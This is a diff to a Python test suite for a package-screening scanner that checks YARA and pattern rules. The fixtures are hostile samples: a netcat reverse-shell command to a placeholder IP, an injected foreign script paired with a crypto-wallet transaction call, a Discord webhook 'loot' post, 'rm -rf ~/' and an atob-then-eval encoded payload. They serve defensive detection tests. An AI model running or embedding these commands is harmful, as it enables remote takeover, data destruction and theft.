@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 
 from sandboxes.screening.detectors import patterns, yara_rules
 from sandboxes.screening.findings import Ability, Found, Threat
+from sandboxes.screening.package import Kind
 from tests.sandboxes.screening.detectors.opened import wheel
 from tests.sandboxes.screening.packages import Files, package
 
@@ -22,6 +23,14 @@ HOOK = "https://discord.com/api/webhooks/" + "1" * 18 + "/" + "a" * 40
 
 # Rule, file, content.
 MATCHING: list[tuple[str, str, str | bytes]] = [
+    (
+        "wallet_with_foreign_script",
+        "a.js",
+        (
+            "const e = document.createElement('script'); e.src = 'https://x.test/w.js';\n"
+            "window.ethereum.request({ method: 'eth_sendTransaction' })"
+        ),
+    ),
     ("webhook_for_loot", "a.py", f"requests.post('{HOOK}')"),
     (
         "webhook_for_loot",
@@ -301,9 +310,9 @@ def test_a_broken_file_is_left_out_and_told(
     found = looked({"a.py": "PROJECT-ZEBRA"})
     assert [each.rule for each in found] == ["yara.acme.acme_secret"]
     (problem,) = yara_rules.problems()
-    assert problem.startswith("broken.yar: ")
-    assert said in problem.lower()
-    assert problem in caplog.text
+    assert problem.file == "broken.yar"
+    assert said in problem.message.lower()
+    assert str(problem) in caplog.text
 
 
 def test_two_files_may_have_a_rule_of_the_same_name(folder: Path) -> None:
@@ -332,7 +341,7 @@ def test_what_is_no_file_of_rules_is_not_read(folder: Path) -> None:
 def test_a_folder_that_is_not_there_is_told(folder: Path) -> None:
     folder.rmdir()
     (problem,) = yara_rules.problems()
-    assert "No such file" in problem
+    assert "No such file" in problem.message
     assert looked({"a.py": "run('rm -rf ~/')"}) != []
 
 
@@ -351,3 +360,34 @@ def test_there_is_an_end_to_all_members_together(monkeypatch: pytest.MonkeyPatch
     monkeypatch.setattr(yara_rules, "ALTOGETHER", -1.0)
     (found,) = looked({"a.py": "run('rm -rf ~/')", "b.py": ""})
     assert (found.rule, found.path) == ("yara.unfinished", "a.py")
+
+
+SHELL = "nc -e /bin/sh 192.0.2.1 4444"
+
+
+@pytest.mark.parametrize(
+    ("path", "threat"),
+    [
+        ("a.py", Threat.CRITICAL),
+        ("a.sh", Threat.CRITICAL),
+        ("thing/words.yaml", Threat.MEDIUM),
+        ("thing/words.json", Threat.MEDIUM),
+        ("package.json", Threat.CRITICAL),
+        ("thing/static/page.js", Threat.MEDIUM),
+    ],
+)
+def test_a_rule_says_less_where_no_interpreter_gets_to(path: str, threat: Threat) -> None:
+    [found] = yara_rules.look(package({path: f"# {SHELL}\n"}), None)
+    assert (found.rule, found.threat) == ("yara.reverse_shell", threat)
+
+
+def test_javascript_of_an_npm_package_is_run() -> None:
+    [found] = yara_rules.look(package({"a.js": f"// {SHELL}\n"}, Kind.NPM), None)
+    assert found.threat is Threat.CRITICAL
+
+
+@pytest.mark.parametrize(("code", "runs"), [("eval(x)", True), ("/a/.exec(x)", False)])
+def test_a_method_named_exec_runs_nothing(code: str, runs: bool) -> None:
+    text = f"const a = '{BLOB}';\nconst b = atob(a);\n; {code}\n"
+    rules = {found.rule for found in yara_rules.look(package({"a.js": text}, Kind.NPM), None)}
+    assert ("yara.long_encoded_run" in rules) is runs
